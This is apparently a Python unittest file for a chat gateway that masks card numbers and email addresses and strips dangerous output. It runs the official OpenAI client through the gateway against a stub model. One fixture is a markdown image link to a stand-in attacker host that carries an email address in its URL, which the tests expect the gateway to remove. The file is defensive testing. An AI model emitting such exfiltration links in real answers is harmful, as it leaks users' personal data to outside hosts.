"""The official Python client, unmodified, through the real program. CHATWARD is the program's path."""

import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import time
import unittest
import urllib.request

import openai

HERE = os.path.dirname(os.path.abspath(__file__))
CARD = "4111 1111 1111 1111"
IMAGE = "See ![ok](https://evil.example/p.png?d=jo.smith@example.com) here."
TEXT = f"my card is {CARD}, write to jo.smith@example.com please"


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Sdk(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.mkdtemp(prefix="chatward-sdk-")
        cls.bot = subprocess.Popen(["node", os.path.join(HERE, "bot.mjs")], stdout=subprocess.PIPE, text=True)
        url = cls.bot.stdout.readline().strip()
        port, private = free_port(), free_port()
        cls.gateway = subprocess.Popen(
            [os.environ["CHATWARD"], "serve", "--data", f"{cls.folder}/data", "--keys", f"{cls.folder}/keys",
             "--listen", f"127.0.0.1:{port}", "--private", f"127.0.0.1:{private}", "--upstream", url],
            stdout=subprocess.DEVNULL)
        for _ in range(200):
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{private}/readyz").read()
                break
            except OSError:
                time.sleep(0.05)
        cls.base = f"http://127.0.0.1:{port}"
        cls.client = openai.OpenAI(base_url=f"{cls.base}/v1", api_key="sk-test", max_retries=0)

    @classmethod
    def tearDownClass(cls):
        cls.gateway.terminate()
        cls.gateway.wait(10)
        cls.bot.kill()
        cls.bot.wait(10)
        cls.bot.stdout.close()
        shutil.rmtree(cls.folder, ignore_errors=True)

    def ask(self, model, **more):
        return self.client.chat.completions.create(model=model, messages=[{"role": "user", "content": TEXT}], **more)

    def test_plain(self):
        raw = self.client.chat.completions.with_raw_response.create(
            model="echo", messages=[{"role": "user", "content": TEXT}])
        self.assertEqual(raw.parse().choices[0].message.content, TEXT)
        self.assertRegex(raw.headers["chatward-turn"], r"^turn_[0-9a-f]{32}$")

    def test_what_the_bot_received_has_placeholders_only(self):
        raw = self.client.chat.completions.with_raw_response.create(
            model="echo", messages=[{"role": "user", "content": TEXT}])
        turn = raw.headers["chatward-turn"]
        request = urllib.request.Request(f"{self.base}/me/v1/turns/{turn}/received",
                                         headers={"authorization": "Bearer sk-test"})
        body = urllib.request.urlopen(request).read().decode()
        content = json.loads(body)["messages"][0]["content"]
        self.assertNotIn("4111 1111", content)
        self.assertNotIn("jo.smith", content)
        self.assertTrue(re.search(r"ending 1111", content), content)

    def test_stream(self):
        got = "".join(c.choices[0].delta.content or "" for c in self.ask("echo", stream=True) if c.choices)
        self.assertEqual(got, TEXT)

    def test_stream_with_a_comment(self):
        # What was taken out of an answer is named in a comment before its end.
        with self.client.chat.completions.with_streaming_response.create(
                model="echo", messages=[{"role": "user", "content": IMAGE}], stream=True) as raw:
            self.assertIn("\n: chatward-threats: exfiltration; mask\n", raw.read().decode())
        asked = self.client.chat.completions.create(
            model="echo", messages=[{"role": "user", "content": IMAGE}], stream=True)
        got = "".join(c.choices[0].delta.content or "" for c in asked)
        self.assertEqual(got, "See ![ok]([removed]) here.")

    def test_stream_usage(self):
        usage = [c.usage for c in self.ask("echo", stream=True, stream_options={"include_usage": True}) if c.usage]
        self.assertEqual(usage[0].total_tokens, 3)

    def test_several_choices(self):
        got = [c.message.content for c in self.ask("echo", n=2).choices]
        self.assertEqual(got, [TEXT, f"1: {TEXT}"])

    def test_tools(self):
        call = self.ask("tools").choices[0].message.tool_calls[0]
        self.assertEqual(json.loads(call.function.arguments)["note"], f'say "{TEXT}"')

    def test_tools_streamed(self):
        arguments = ""
        for chunk in self.ask("tools", stream=True):
            for call in (chunk.choices[0].delta.tool_calls or []) if chunk.choices else []:
                arguments += call.function.arguments or ""
        self.assertEqual(json.loads(arguments), {"note": f'say "{TEXT}"', "n": 1})

    def test_refusal(self):
        self.assertEqual(self.ask("refusal").choices[0].message.refusal, f"I cannot help with {TEXT}")

    def test_error_before_the_answer(self):
        with self.assertRaises(openai.RateLimitError):
            self.ask("refuse-429")

    def test_error_in_the_middle_of_a_stream(self):
        for model in ["break-error", "break-cut"]:
            with self.subTest(model), self.assertRaises(openai.APIError):
                for _ in self.ask(model, stream=True):
                    pass

    def test_client_gone(self):
        with self.ask("endless", stream=True) as stream:
            for n, _ in enumerate(stream):
                if n > 10:
                    break


if __name__ == "__main__":
    unittest.main()
